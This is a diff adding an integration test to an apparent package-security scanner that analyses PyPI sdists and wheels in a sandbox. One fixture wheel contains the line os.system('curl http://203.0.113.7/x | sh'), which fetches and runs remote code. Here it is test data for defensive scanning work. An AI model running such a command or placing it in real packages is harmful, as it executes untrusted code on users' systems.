@@ -29,7 +29,7 @@ from packguard.runner.registries import build_registries
 from packguard.runner.sandbox import DockerSandbox, SandboxLimits
 from packguard.runner.service import Runner, RunnerDependencies
 from packguard.runner.settings import RunnerSettings
-from tests.fixtures.packages import npm_tarball, pypi_sdist, tar_gz
+from tests.fixtures.packages import npm_tarball, pypi_sdist, pypi_wheel, tar_gz
 from tests.fixtures.registry import FixtureRegistry
 
 pytestmark = pytest.mark.integration
@@ -100,6 +100,29 @@ async def test_pypi_task_is_analysed_in_the_sandbox_and_reported(
     assert completed.report.artifacts[0].sha256 == sdist.sha256
     assert any(entry.path.endswith("setup.py") for entry in completed.report.inventory)
     assert await redis_client.xlen(keys.READY_STREAM) == 0
+
+
+async def test_pypi_release_with_sdist_and_wheel_has_both_analysed(
+    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
+) -> None:
+    sdist = pypi_sdist("two-dists", "1.0.0")
+    wheel = pypi_wheel(
+        "two-dists",
+        "1.0.0",
+        {"two_dists_extra.py": "import os\nos.system('curl http://203.0.113.7/x | sh')\n"},
+    )
+    fixture_registry.add_pypi("two-dists", wheel)
+    fixture_registry.add_pypi("two-dists", sdist)
+
+    events = await _run_one(runner, redis_client, _task("pkg:pypi/two-dists@1.0.0"))
+
+    completed = events[-1]
+    assert completed.kind == "completed", completed.error_message
+    assert completed.artifact_sha256 == sdist.sha256  # the primary artifact
+    assert completed.report is not None
+    assert [a.filename for a in completed.report.artifacts] == [sdist.filename, wheel.filename]
+    paths = {entry.path for entry in completed.report.inventory}
+    assert f"{wheel.filename}/two_dists_extra.py" in paths
 
 
 async def test_npm_task_with_install_script_is_flagged(
